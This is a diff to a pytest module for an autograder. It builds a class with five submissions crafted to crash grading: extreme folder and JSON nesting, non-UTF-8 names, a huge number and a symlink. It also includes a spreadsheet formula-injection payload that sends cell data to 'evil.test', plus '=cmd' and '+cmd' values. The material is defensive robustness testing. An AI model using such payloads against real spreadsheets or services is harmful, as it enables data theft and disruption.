@@ -1,13 +1,16 @@
-"""Grading a class with submissions built to break the batch, through the real ``python -m autograder grade``.
+"""A class of 20 graded in one run through the real ``python -m autograder grade``, 5 of them built to break it.
 
-Each of these once stopped a batch and lost every row, the honest classmates'
-too: a folder nested 1,100 levels deep, a file name that is not UTF-8, a Comet
-archive with 20,000-deep JSON, a metric of 5,000 digits. Now each submission
-gets its row and its feedback page, the honest one keeps its score, the
-grader's own failure on one submission (a link where its archives are kept) is
-that student's error row, and the exit status says "some submissions had
-errors". The class has no notebook, only artifacts, so only the honest
-submission's two models are run in sandboxes.
+The five breakers each once stopped a batch and lost every row, the honest
+classmates' too: a folder nested 1,100 levels deep, file names that are not
+UTF-8, a Comet archive with 20,000-deep JSON, a metric of 5,000 digits, and a
+link the instructor's output folder holds where the grader keeps a student's
+archives (the grader's own failure on that one submission). Now every student
+gets a row in ``grades.csv`` and a feedback page, each of the other 15 keeps
+exactly the score its files earn (13 with models of their own, one whose
+files are FIFOs, one whose Comet run is full of spreadsheet formulas), the
+breakers earn nothing, and the exit status says "some submissions had errors",
+distinct from "the grader failed". The class has no notebook, only artifacts,
+so only the models are run in sandboxes.
 """
 
 from __future__ import annotations
@@ -45,8 +48,12 @@ pytestmark = [pytest.mark.slow, pytest.mark.timeout(1200)]
 
 LAB = "lab1-mnist"
 LINK = '=HYPERLINK("http://evil.test/?"&A1,"click")'
-HONEST_SCORE = 5  # untrained models of the right architectures: both model parts, nothing else
-STUDENTS = ["deep-folder", "deep-json", "fifo", "honest", "huge-metric", "linked-out", "odd-names", "spreadsheet"]
+MODEL_POINTS = {"fc": 2, "cnn": 3}  # an untrained model of the right architecture: its model part, nothing else
+HONEST = {f"honest-{number:02d}": ("fc", "cnn") if number <= 7 else ("fc",) if number <= 10 else ("cnn",)
+          for number in range(1, 14)}
+"""Thirteen students with untrained models of their own: both, or only one of the two."""
+BREAKERS = ["deep-folder", "deep-json", "huge-metric", "linked-out", "odd-names"]
+STUDENTS = sorted([*BREAKERS, *HONEST, "fifo", "spreadsheet"])
 REFUSED = [b"caf\xe9", b"=cmd"]
 
 
@@ -63,11 +70,14 @@ def build_class(class_dir: Path) -> None:
         for name, data in archives.items():
             (offline / name).write_bytes(data)
 
-    honest = lab("honest")
-    (honest / "artifacts").mkdir()
-    untrained(honest / "artifacts", None)
-    (honest / "comet-offline").mkdir()
-    (honest / "comet-offline" / "0123abcd.zip").write_bytes(archive())
+    for student, models in HONEST.items():
+        artifacts = lab(student) / "artifacts"
+        artifacts.mkdir()
+        untrained(artifacts, None)
+        for model in {"fc", "cnn"} - set(models):
+            (artifacts / f"{model}.keras").unlink()
+    (class_dir / "honest-01" / LAB / "comet-offline").mkdir()
+    (class_dir / "honest-01" / LAB / "comet-offline" / "0123abcd.zip").write_bytes(archive())
     comet("deep-json", **{"run.zip": archive(["[" * 20_000 + "]" * 20_000])})
     comet("huge-metric", **{"run.zip": archive([metric_line("test_accuracy", "9" * 5000)])})
     comet("spreadsheet", **{"run.zip": archive([parameter("model", "cnn"), parameter(LINK, "+cmd"),
@@ -106,7 +116,7 @@ def graded(tmp_path_factory, mirror_dir) -> Graded:
     try:
         build_class(class_dir)
         ran = subprocess.run([sys.executable, "-m", "autograder", "grade", LAB, str(class_dir), "--out", str(out),
-                              "--profile", "quick"], capture_output=True, text=True, timeout=1100,
+                              "--profile", "quick", "--workers", "2"], capture_output=True, text=True, timeout=1100,
                              env={**os.environ, "LABKIT_DATA_DIR": str(mirror_dir)})
     finally:
         unnest(class_dir / "deep-folder" / LAB)  # too deep for shutil.rmtree
@@ -123,7 +133,7 @@ def test_every_student_gets_a_row_and_a_page_and_the_status_says_some_had_errors
     ran = graded.ran
     assert ran.returncode == SUBMISSION_ERRORS, ran.stdout + ran.stderr[-3000:]
     assert "Traceback" not in ran.stdout + ran.stderr
-    assert sorted(graded.grades) == STUDENTS
+    assert len(STUDENTS) == 20 and sorted(graded.grades) == STUDENTS
     for student in STUDENTS:
         assert f"{LAB}: " in page(graded, student)
     statuses = {student: row["status"] for student, row in graded.grades.items()}
@@ -133,9 +143,11 @@ def test_every_student_gets_a_row_and_a_page_and_the_status_says_some_had_errors
     assert "'caf\\xe9': not a usable student id" in ran.stdout and "'=cmd': not a usable student id" in ran.stdout
 
 
-def test_the_honest_submission_keeps_its_score_and_the_others_earn_nothing(graded):
+def test_the_honest_submissions_keep_their_scores_and_the_others_earn_nothing(graded):
     scores = {student: float(row["score"]) for student, row in graded.grades.items()}
-    assert scores == {**dict.fromkeys(STUDENTS, 0.0), "honest": HONEST_SCORE}
+    earned = {student: float(sum(MODEL_POINTS[model] for model in models)) for student, models in HONEST.items()}
+    assert scores == {**dict.fromkeys(STUDENTS, 0.0), **earned}
+    assert len(earned) + 2 == 15 and len(BREAKERS) == 5  # the fifo and spreadsheet students: 0, their due
 
 
 def test_what_was_left_out_is_noted_on_the_student_s_page(graded):
@@ -166,9 +178,9 @@ def test_each_broken_archive_is_a_flag_on_its_review_row(graded):
         "unreadable archive: messages.json line 1: the JSON nests deeper than 64 levels")
     assert rows[("huge-metric", "run.zip")]["flag"] == (
         "unreadable archive: messages.json line 1: a number of 5,000 characters (at most 64 are read)")
-    assert rows[("honest", "0123abcd.zip")]["logged_test_accuracy"] == "0.95"
+    assert rows[("honest-01", "0123abcd.zip")]["logged_test_accuracy"] == "0.95"
     kept = {(archive.student_id, archive.path.name) for archive in comet_upload.find_archives(graded.out, LAB)}
-    assert kept == {("honest", "0123abcd.zip"), ("spreadsheet", "run.zip")}
+    assert kept == {("honest-01", "0123abcd.zip"), ("spreadsheet", "run.zip")}
 
 
 def test_no_spreadsheet_the_grader_writes_holds_a_formula(graded):
